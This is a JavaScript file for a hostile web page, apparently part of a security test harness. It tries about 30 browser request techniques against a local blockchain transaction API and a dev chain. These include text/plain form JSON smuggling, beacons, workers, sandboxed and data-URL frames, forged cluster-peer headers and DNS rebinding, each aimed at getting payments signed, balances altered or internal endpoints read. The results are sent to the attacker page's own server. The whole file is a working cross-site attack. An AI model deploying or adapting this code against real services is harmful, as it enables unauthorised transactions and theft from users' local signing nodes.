// Every way by which a page can send something to a server, or read from it. `C` is set by the page: the addresses of API
// and dev chain (null: not attacked), an account, signed bytes of another one, and the page's own server.
// A way that reaches its goal pays a recipient whose address is the way's name, under a request id of that name.
'use strict';

const WAY_MS_MAX = 4000;
const LISTEN_MS = 2000;

const hex = (text) => [...text].map((c) => c.charCodeAt(0).toString(16)).join('');
const recipient = (way) => '0x' + hex(way).slice(0, 40).padEnd(40, '0');
// Both bodies end with a text, so that a form of type text/plain can write them (it inserts a `=`).
const payment = (way) =>
  JSON.stringify({ signer: C.signer, payload: { to: recipient(way), value: '1', gas: '21000' }, requestId: way });
// The same as one node of a cluster forwards it to another.
const forwarding = (way) => {
  const payload = { to: recipient(way), value: '0x1', data: '0x', gas: 21000 };
  const unset = { max_fee_per_gas: null, max_priority_fee_per_gas: null, gas_price: null, tx_type: null };
  const lane = { chain_id: C.chainId, signer: C.signer };
  const rest = { estimated_gas: null, origin: { caller: null, trace: null } };
  return JSON.stringify([{ lane, request_id: way, payload: { ...payload, ...unset }, ...rest }]);
};
const tampering = (way) =>
  JSON.stringify([
    { jsonrpc: '2.0', method: 'anvil_setBalance', params: [recipient(way), '0x1'], id: 'b' },
    { jsonrpc: '2.0', method: 'eth_sendRawTransaction', params: [C.raw], id: way },
  ]);

const JSON_TYPE = { 'content-type': 'application/json' };
const PEER = { ...JSON_TYPE, 'lanekeeper-hop': '1', 'lanekeeper-deadline': '5000' };
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
const answerOf = async (response) => ({ status: response.status, read: await response.text() });
const post = async (url, options) => answerOf(await fetch(url, { method: 'POST', ...options }));

let frames = 0;
function frame(attributes) {
  const element = document.createElement('iframe');
  Object.assign(element, { name: 'frame' + frames++, ...attributes });
  document.body.append(element);
  return element;
}

async function form(url, body, enctype) {
  const element = Object.assign(document.createElement('form'), { action: url, method: 'POST', enctype });
  const input = document.createElement('input');
  const cut = enctype === 'text/plain' ? body.lastIndexOf('"}') : 0;
  [input.name, input.value] = cut ? [body.slice(0, cut), body.slice(cut)] : ['body', body];
  element.append(input);
  document.body.append(element);
  const target = frame({});
  element.target = target.name;
  element.submit();
  await sleep(LISTEN_MS);
  return textOf(target);
}

// What a frame shows is readable for a page of the same origin only.
function textOf(target) {
  try {
    return { read: target.contentDocument.body.innerText };
  } catch {
    return {};
  }
}

function xhr(url, body, headers) {
  return new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open('POST', url);
    Object.entries(headers).forEach(([name, value]) => request.setRequestHeader(name, value));
    request.onloadend = () => done({ status: request.status, read: request.responseText });
    request.send(body);
  });
}

function element(tag, attributes) {
  return new Promise((done) => {
    const made = document.createElement(tag);
    made.onload = () => done({});
    made.onerror = () => done({});
    Object.assign(made, attributes);
    document.body.append(made);
  });
}

function socket(url, body) {
  return new Promise((done) => {
    const made = new WebSocket(url.replace(/^http/, 'ws'));
    made.onopen = () => made.send(body);
    made.onmessage = (message) => done({ status: 200, read: String(message.data) });
    made.onerror = () => done({});
  });
}

// The source of a script that has an origin of its own and tries with and without a preflight request.
const script = (url, body) => `
  const post = (options) => fetch(${JSON.stringify(url)}, { method: 'POST', body: ${JSON.stringify(body)}, ...options });
  Promise.allSettled([
    post({ headers: { 'content-type': 'application/json' } }).then(async (r) => ({ status: r.status, read: await r.text() })),
    post({ mode: 'no-cors' }),
  ]).then(([first]) => (self.parent && self.parent !== self ? parent.postMessage(first.value ?? {}, '*')
    : self.postMessage(first.value ?? {})));`;

async function framed(attributes) {
  const made = document.createElement('iframe');
  Object.entries(attributes).forEach(([name, value]) => made.setAttribute(name, value));
  const answered = new Promise((done) => {
    addEventListener('message', (message) => message.source === made.contentWindow && done(message.data));
  });
  document.body.append(made);
  return answered;
}

function worker(url, body) {
  return new Promise((done) => {
    const made = new Worker(URL.createObjectURL(new Blob([script(url, body)], { type: 'text/javascript' })));
    made.onmessage = (message) => done(message.data);
    made.onerror = () => done({});
  });
}

async function serviceWorker(url, body) {
  if (!navigator.serviceWorker) return {}; // not in a page without a secure origin
  await navigator.serviceWorker.register('/service-worker.js');
  const { active } = await navigator.serviceWorker.ready;
  const channel = new MessageChannel();
  const answered = new Promise((done) => (channel.port1.onmessage = (message) => done(message.data)));
  active.postMessage({ url, body }, [channel.port2]);
  return answered;
}

async function ping(url) {
  const link = Object.assign(document.createElement('a'), { href: '/empty', ping: url, target: frame({}).name });
  document.body.append(link);
  link.click();
  await sleep(LISTEN_MS);
  return {};
}

function stream(url) {
  return new Promise((done) => {
    const source = new EventSource(url);
    source.onopen = () => done({ status: 200, read: 'the stream is open' });
    source.onerror = () => {
      source.close(); // it would try again for ever
      done({});
    };
  });
}

const markup = (text) => `<script>${text}<\/script>`;
const bounce = (url) => `${C.own}/bounce?to=${encodeURIComponent(url)}`;

const SPENDING = {
  'fetch-json': (url, body) => post(url, { headers: JSON_TYPE, body }),
  'fetch-text': (url, body) => post(url, { mode: 'no-cors', body }),
  'fetch-untyped': (url, body) => post(url, { mode: 'no-cors', body: new Blob([body]) }),
  'fetch-smuggled': (url, body) =>
    post(url, { mode: 'no-cors', headers: { 'content-type': 'text/plain; type=application/json' }, body }),
  'fetch-urlencoded': (url, body) => post(url, { mode: 'no-cors', body: new URLSearchParams({ body }) }),
  'fetch-cookies': (url, body) => post(url, { credentials: 'include', body }),
  'fetch-bearer': (url, body) =>
    post(url, { headers: { ...JSON_TYPE, authorization: 'Bearer guessed' }, body }),
  'keepalive-text': (url, body) => post(url, { mode: 'no-cors', keepalive: true, body }),
  'keepalive-json': (url, body) => post(url, { headers: JSON_TYPE, keepalive: true, body }),
  'fetch-redirected': (url, body) => post(bounce(url), { mode: 'no-cors', body }),
  'fetch-put': (url, body) => post(url, { method: 'PUT', headers: JSON_TYPE, body }),
  'xhr-json': (url, body) => xhr(url, body, JSON_TYPE),
  'xhr-text': (url, body) => xhr(url, body, {}),
  'beacon-text': async (url, body) => void navigator.sendBeacon(url, body),
  'beacon-json': async (url, body) =>
    void navigator.sendBeacon(url, new Blob([body], { type: 'application/json' })),
  'form-urlencoded': (url, body) => form(url, body, 'application/x-www-form-urlencoded'),
  'form-multipart': (url, body) => form(url, body, 'multipart/form-data'),
  'form-text': (url, body) => form(url, body, 'text/plain'),
  'form-redirected': (url, body) => form(bounce(url), body, 'text/plain'),
  'get-image': (url, body) => element('img', { src: `${url}?body=${encodeURIComponent(body)}` }),
  'get-script': (url, body) => element('script', { src: `${url}?body=${encodeURIComponent(body)}` }),
  'get-prefetch': (url, body) =>
    element('link', { rel: 'prefetch', href: `${url}?body=${encodeURIComponent(body)}` }),
  websocket: (url, body) => socket(url, body),
  worker: (url, body) => worker(url, body),
  'service-worker': (url, body) => serviceWorker(url, body),
  sandbox: (url, body) => framed({ sandbox: 'allow-scripts allow-forms', srcdoc: markup(script(url, body)) }),
  'data-url': (url, body) => framed({ src: 'data:text/html,' + encodeURIComponent(markup(script(url, body))) }),
  ping: (url) => ping(url),
};

// As a node of the cluster: without a secret there is no MAC that a page would have to guess.
const PEERING = {
  'peer-fetch': (url, body) => post(url, { headers: PEER, body }),
  'peer-xhr': (url, body) => xhr(url, body, PEER),
};

const READING = {
  'read-txs': (api) => fetch(api + '/api/v1/tx').then(answerOf),
  'read-lanes': (api) => fetch(api + '/api/v1/lanes').then(answerOf),
  'read-events': (api) => fetch(api + '/api/v1/events').then(answerOf),
  'read-metrics': (api) => fetch(api + '/metrics').then(answerOf),
  'read-stream': (api) => stream(api + '/api/v1/events/stream'),
  'read-frame': async (api) => {
    const target = frame({ src: api + '/api/v1/lanes' });
    await sleep(LISTEN_MS);
    return textOf(target);
  },
};

async function attempt(way, target, run) {
  const late = sleep(WAY_MS_MAX).then(() => ({ note: 'no answer' }));
  const outcome = await Promise.race([run(), late]).catch((error) => ({ note: String(error) }));
  const { status = 0, read = '', note = '' } = outcome ?? {};
  return { way, target, status, read: String(read).slice(0, 300), note };
}

async function attack() {
  const attempts = [];
  for (const [name, run] of Object.entries(SPENDING)) {
    if (C.api) {
      const way = name + '-a';
      attempts.push(attempt(way, 'api', async () => run(C.api + '/api/v1/tx', payment(way))));
    }
    if (C.chain) {
      const way = name + '-c';
      attempts.push(attempt(way, 'chain', async () => run(C.chain + '/', tampering(way))));
    }
  }
  for (const [way, run] of Object.entries(PEERING)) {
    const forward = C.api + '/internal/v1/forward';
    if (C.api) attempts.push(attempt(way, 'api', async () => run(forward, forwarding(way))));
  }
  for (const [way, run] of Object.entries(READING)) {
    if (C.api) attempts.push(attempt(way, 'api', async () => run(C.api)));
  }
  return Promise.all(attempts);
}

// The name of this page's server leads to the attacked server from now on.
async function rebind() {
  await fetch(C.own + '/rebind', { mode: 'no-cors' });
  for (;;) {
    const response = await fetch('/?' + Math.random(), { cache: 'no-store' }).catch(() => null);
    if (response && !response.headers.has('x-attacker')) return;
    await sleep(50);
  }
}

addEventListener('load', async () => {
  if (C.rebinds) await rebind();
  const attempts = await attack();
  await fetch(C.own + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(attempts) });
});
